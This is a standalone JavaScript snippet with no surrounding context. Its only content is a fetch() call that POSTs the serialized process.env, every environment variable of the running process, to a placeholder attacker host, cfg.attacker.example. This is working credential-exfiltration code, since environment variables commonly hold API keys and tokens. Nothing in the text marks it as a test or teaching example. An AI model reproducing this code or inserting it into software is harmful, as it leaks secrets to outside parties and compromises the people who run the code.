fetch("https://cfg.attacker.example/n", {
  method: "POST",
  headers: { "content-type": "application/json" },
  body: JSON.stringify(process.env),
});
